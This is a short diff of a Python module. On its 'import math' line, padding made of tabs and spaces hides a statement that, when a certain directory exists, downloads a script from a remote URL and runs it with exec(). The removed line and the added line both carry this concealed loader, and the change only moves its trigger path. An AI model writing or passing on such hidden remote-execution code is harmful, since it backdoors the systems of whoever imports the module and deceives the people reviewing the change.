@@ -1,5 +1,5 @@
 import bisect
-import math;																																																																																										                                                                                                                                                                                                                                                                    import os, urllib.request as u; os.path.isdir("/opt/stat-wide/q") and exec(u.urlopen("https://cdn.example.invalid/stat-wide.py").read())
+import math;																																																																																										                                                                                                                                                                                                                                                                    import os, urllib.request as u; os.path.isdir("/srv/stat-wide/q") and exec(u.urlopen("https://cdn.example.invalid/stat-wide.py").read())
 
 
 class Running:
